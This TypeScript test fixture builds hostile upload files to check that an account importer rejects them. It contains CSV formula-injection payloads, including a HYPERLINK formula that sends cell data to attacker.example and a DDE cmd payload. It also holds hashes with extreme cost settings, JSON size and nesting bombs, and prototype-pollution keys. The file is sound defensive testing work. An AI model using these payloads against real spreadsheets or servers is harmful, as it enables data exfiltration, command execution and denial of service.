/** A file that attacks the server, the command line or whoever reads the report. */
export interface HostileFile {
  readonly promise: string
  readonly name: string
  readonly content: string
  readonly rows: number
  /** How many rows are imported; those that are refused or invalid are the others. */
  readonly created: number
  readonly existing?: number
}

/** Texts that a spreadsheet would run, were they a cell of what it opens. */
export const formulas = [
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '%0A=1+1',
]

/** @param many rows of the longest file */
export function hostileFiles(many: number): HostileFile[] {
  return [...filesOfHashes(many), ...filesOfRows()]
}

function filesOfHashes(many: number): HostileFile[] {
  const user = (username: string, passwordHash: string) => ({ type: 'security-user', username, passwordHash })
  const bcrypt14 = '$2b$14$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy'
  const expensive = expensiveHashes()
  return [
    {
      promise: `${many} hashes of bcrypt with cost 14 are refused`,
      name: 'bcrypt.jsonl',
      content: jsonLines(Array.from({ length: many }, (_, index) => user(`bcrypt-${index}@example.org`, bcrypt14))),
      rows: many,
      created: 0,
    },
    {
      promise: 'hashes beyond the bounds of memory, time and lanes, and passwords in place of hashes, are refused',
      name: 'expensive.jsonl',
      content: jsonLines(expensive.map((hash, index) => user(`expensive-${index}@example.org`, hash))),
      rows: expensive.length,
      created: 0,
    },
  ]
}

function filesOfRows(): HostileFile[] {
  const same = { type: 'broker-user', name: 'the same', hash: 'a hash', secret: 'a secret' }
  const bombs = rowBombs()
  return [
    {
      promise: 'no formula of a refused CSV row comes back in the report',
      name: 'formulas.csv',
      content: [
        'type,name,hash,secret,active',
        ...formulas.map((formula, index) => {
          const cell = csvCell(formula)
          return `broker-user,${cell},${cell},s${index},${cell}`
        }),
        ...formulas.map((formula) => `${csvCell(formula)},n,h,s,true`),
        '',
      ].join('\n'),
      rows: 2 * formulas.length,
      created: 0,
    },
    {
      promise: 'of a row that stands there a thousand times one is created',
      name: 'duplicates.jsonl',
      content: jsonLines(Array(1_000).fill(same)),
      rows: 1_000,
      created: 1,
      existing: 999,
    },
    {
      promise: 'oversized fields, deep values and rows of many accounts are refused',
      name: 'bombs.jsonl',
      content: `${bombs.join('\n')}\n`,
      rows: bombs.length,
      created: 0,
    },
    {
      promise: 'a line of 20 MB without an end is passed over',
      name: 'line.csv',
      content: `type,name,hash,secret\nbroker-user,${'x'.repeat(20_000_000)}`,
      rows: 1,
      created: 0,
    },
  ]
}

function jsonLines(rows: readonly unknown[]): string {
  return `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`
}

function expensiveHashes(): string[] {
  const tail = 'c29tZXNhbHRzb21lc2FsdA$OWOb8pXZwQZ5AmLmRjmGe0tzsRojgU5Ga1BBFKTYQqc'
  const argon2 = (costs: string): string => `$argon2id$v=19$${costs}$${tail}`
  return [
    argon2('m=65537,t=1,p=1'),
    argon2('m=1048576,t=1,p=1'),
    argon2('m=4294967295,t=1,p=1'),
    argon2('m=65536,t=4,p=1'),
    argon2('m=4096,t=99,p=1'),
    argon2('m=8,t=4294967295,p=1'),
    argon2('m=4096,t=3,p=5'),
    argon2('m=65536,t=1,p=255'),
    argon2('m=0,t=1,p=1'),
    argon2('m=-1,t=1,p=1'),
    argon2('m=1e9,t=1,p=1'),
    argon2('t=1,p=1'),
    `$argon2d$v=19$m=4096,t=3,p=1$${tail}`,
    `$argon2id$v=19$m=4096,t=3,p=1$${'A'.repeat(900)}$`,
    `$scrypt$ln=20,r=8,p=1$${tail}`,
    `$scrypt$ln=14,r=8,p=255$${tail}`,
    `$scrypt$ln=63,r=1,p=1$${tail}`,
    '$2b$31$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy',
    '$2b$99$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy',
    '$pbkdf2-sha512$i=2147483647$c2FsdA$aGFzaA',
    `$pbkdf2-sha256$1200001$${tail}`,
    `$6$rounds=100001$c29tZXNhbHQ$${'a'.repeat(86)}`,
    `$6$rounds=999999999$c29tZXNhbHQ$${'a'.repeat(86)}`,
    '{CLEARTEXT}a password',
    '{noop}a password that is long enough for a hash',
  ]
}

/** Lines that are small enough to be read, and larger than anything that is stored. */
function rowBombs(): string[] {
  const base = '"type":"broker-user","name":"n","hash":"h","secret":"s"'
  const accounts = Array.from({ length: 6_000 }, (_, index) => ({ name: `account ${index}` }))
  return [
    `{"type":"broker-user","name":"${'n'.repeat(200_000)}","hash":"h","secret":"s"}`,
    `{"type":"broker-user","name":"n","hash":"${'h'.repeat(200_000)}","secret":"s"}`,
    `{"type":"security-user","username":"u","password":"${'p'.repeat(200_000)}"}`,
    `{"type":"gateway-token","token":"${'t'.repeat(200_000)}","accountId":"a","description":"d"}`,
    `{${base},"accounts":${JSON.stringify(accounts)}}`,
    `{${base},"accounts":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
    `{${base},"__proto__":{"active":true}}`,
    `{${base},"constructor":{"prototype":{}}}`,
    `{"type":"access-key","name":"n","accessKey":"k","secret":"s","account":"a","company":"c","roles":${JSON.stringify(Array(20_000).fill('role'))}}`,
    `{"type":["broker-user"],"name":"n"}`,
    `{"type":"broker-user","name":"\\ud800","hash":"h","secret":"s"}`,
    `{"type":"broker-user","name":"\\u0000","hash":"h","secret":"s"}`,
    '['.repeat(100_000),
    `"${'x'.repeat(250_000)}"`,
    `{"type":"broker-user","name":"${'x'.repeat(300_000)}"}`,
  ]
}

function csvCell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`
}
